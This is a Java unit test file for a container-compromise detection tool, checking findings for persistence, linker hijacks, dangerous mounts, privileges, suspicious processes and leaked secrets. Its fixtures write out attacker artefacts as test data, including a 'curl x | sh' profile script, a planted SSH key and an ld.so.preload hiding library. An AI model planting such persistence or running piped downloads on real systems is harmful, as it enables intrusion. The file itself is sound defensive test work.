package dev.stasis.analysis.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.stasis.analysis.AnalysisOptions;
import dev.stasis.analysis.Analyzer;
import dev.stasis.analysis.Progress;
import dev.stasis.analysis.TestSubjects;
import dev.stasis.analysis.finding.Finding;
import dev.stasis.analysis.finding.Severity;
import dev.stasis.analysis.intel.Indicator;
import dev.stasis.analysis.intel.IndicatorType;
import dev.stasis.analysis.intel.ThreatIntel;
import dev.stasis.analysis.report.Report;
import dev.stasis.analysis.report.Verdict;
import dev.stasis.analysis.subject.ContainerSpec;
import dev.stasis.analysis.subject.DiffFile;
import dev.stasis.analysis.subject.MountPoint;
import dev.stasis.analysis.subject.Proc;
import dev.stasis.analysis.subject.Subject;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Detections the fixtures do not exercise, on hand-built containers (the facts are written out here). */
class DetectorsTest {
    static DiffFile file(String path, int mode, String content) {
        byte[] b = content.getBytes(StandardCharsets.UTF_8);
        return new DiffFile(path, "file", b.length, mode, Instant.parse("2026-11-29T04:00:00Z"), "cd".repeat(32), b, null, "rootfs-diff");
    }

    static Proc proc(int pid, String comm, List<String> argv, String exe) {
        return new Proc(pid, 1, comm, argv, exe, false, false, null, null, "/", 0, 0, 0, 0x800405FBL, 0, "alive", 1, List.of(), List.of());
    }

    static Subject subject(ContainerSpec spec, List<Proc> procs, List<DiffFile> diff) {
        return new Subject(null, null, spec, procs, List.of(), diff, List.of(), List.of(), List.of(), null, List.of());
    }

    static List<String> ids(List<Finding> f) {
        return f.stream().map(Finding::id).toList();
    }

    @Test
    void persistenceAndLinkerHijackInTheRootfsDiff() {
        Subject s = subject(null, List.of(), List.of(
                file("/etc/ld.so.preload", 0644, "/usr/lib/libhide.so\n"),
                file("/root/.ssh/authorized_keys", 0600, "ssh-ed25519 AAAA attacker@x\n"),
                file("/etc/systemd/system/kworker.service", 0644, "[Unit]\nDescription=x\n"),
                file("/etc/profile.d/z.sh", 0644, "curl x | sh\n"),
                file("/usr/local/bin/app.pyc", 0644, "\u0000binary")));
        List<Finding> f = new PreloadDetector().detect(s, new DetectionContext(null, null));
        assertThat(ids(f)).containsExactly("STASIS-FS-001");
        assertThat(f.get(0).severity()).isEqualTo(Severity.CRITICAL);
        List<Finding> p = new RootfsDetector().detect(s, new DetectionContext(null, null));
        assertThat(p).filteredOn(x -> x.id().equals("STASIS-FS-002")).extracting(Finding::techniques)
                .containsExactlyInAnyOrder(List.of("T1098.004"), List.of("T1543.002"), List.of("T1546.004"));
        assertThat(p).noneMatch(x -> x.title().contains("app.pyc"));
    }

    @Test
    void privilegedHostPathsAndHostNamespaces() {
        ContainerSpec spec = new ContainerSpec(List.of(), List.of(), true, List.of(), List.of(
                new MountPoint("/host", "bind", "/", List.of("rbind", "rw")),
                new MountPoint("/run/containerd/containerd.sock", "bind", "/run/containerd/containerd.sock", List.of("rbind")),
                new MountPoint("/etc/hosts", "bind", "/var/lib/kubelet/pods/abc/etc-hosts", List.of("rbind")),
                new MountPoint("/data", "bind", "/srv/data", List.of("rbind", "ro")),
                new MountPoint("/scratch", "tmpfs", null, List.of("nosuid"))), // the OCI spec makes "source" optional
                List.of("pid"), Map.of(), false, false, 0);
        Subject s = subject(spec, List.of(), List.of());
        List<Finding> m = new MountDetector().detect(s, new DetectionContext(null, null));
        assertThat(m).extracting(Finding::id, Finding::severity).containsExactly(
                org.assertj.core.groups.Tuple.tuple("STASIS-MOUNT-003", Severity.HIGH),
                org.assertj.core.groups.Tuple.tuple("STASIS-MOUNT-002", Severity.CRITICAL),
                org.assertj.core.groups.Tuple.tuple("STASIS-MOUNT-003", Severity.LOW));
        assertThat(ids(new PrivilegeDetector().detect(s, new DetectionContext(null, null)))).containsExactly("STASIS-PRIV-001");
        ContainerSpec unprivileged = new ContainerSpec(List.of(), List.of(), false, List.of("CAP_SYS_ADMIN", "CAP_NET_RAW"), List.of(),
                List.of("pid"), Map.of(), false, false, 0);
        List<Finding> pr = new PrivilegeDetector().detect(subject(unprivileged, List.of(), List.of()), new DetectionContext(null, null));
        assertThat(ids(pr)).containsExactly("STASIS-PRIV-002", "STASIS-PRIV-003");
        assertThat(pr.get(0).title()).contains("CAP_SYS_ADMIN").doesNotContain("NET_RAW");
    }

    @Test
    void toolingAndTempExecutionAndSecretsByValue() {
        Proc gcc = proc(30, "gcc", List.of("gcc", "-o", "/tmp/x", "x.c"), "/usr/bin/gcc");
        Proc fromShm = proc(31, "x", List.of("/dev/shm/x"), "/dev/shm/x");
        Proc aws = new Proc(32, 1, "app", List.of("app"), "/app", false, false, null, null, "/", 0, 0, 0, null, 0, "alive", 1,
                List.of("CONFIG=AKIAABCDEFGHIJKLMNOP", "LOG_LEVEL=debug"), List.of());
        Subject s = subject(null, List.of(gcc, fromShm, aws), List.of());
        List<Finding> f = new ProcessOriginDetector().detect(s, new DetectionContext(null, null));
        assertThat(ids(f)).containsExactlyInAnyOrder("STASIS-PROC-008", "STASIS-PROC-005");
        List<Finding> env = new SecretEnvDetector().detect(s, new DetectionContext(null, null));
        assertThat(env).singleElement().satisfies(x -> {
            assertThat(x.title()).contains("CONFIG").doesNotContain("LOG_LEVEL");
            assertThat(x.evidence().get(0).excerpt()).doesNotContain("AKIAABCDEFGHIJKLMNOP");
        });
    }

    @Test
    void intelHashOfADroppedFile() {
        DiffFile dropped = file("/tmp/x", 0755, "#!/bin/sh\necho hi\n");
        Subject s = subject(null, List.of(), List.of(dropped));
        ThreatIntel intel = new ThreatIntel(List.of(new Indicator(IndicatorType.SHA256, dropped.sha256(), "known dropper", "test")));
        List<Finding> f = new IntelContentDetector().detect(s, new DetectionContext(intel, null));
        assertThat(f).singleElement().satisfies(x -> {
            assertThat(x.id()).isEqualTo("STASIS-INTEL-003");
            assertThat(x.title()).contains("/tmp/x").contains("known dropper");
        });
    }

    @Test
    void saTokenIsRaisedOnlyInACompromisedContainer() {
        Report r = Analyzer.analyze(TestSubjects.ircBot(), AnalysisOptions.defaults(), Progress.NONE);
        assertThat(r.verdict()).isEqualTo(Verdict.COMPROMISED);
        assertThat(r.findings()).filteredOn(f -> f.id().equals("STASIS-MOUNT-001")).singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
        // bot source code in memory ("PRIVMSG $chan :$o") is not mistaken for traffic
        assertThat(r.findings()).filteredOn(f -> f.id().equals("STASIS-C2-002")).singleElement()
                .satisfies(f -> assertThat(f.evidence()).noneMatch(e -> e.excerpt() != null && e.excerpt().contains("$")));
    }
}
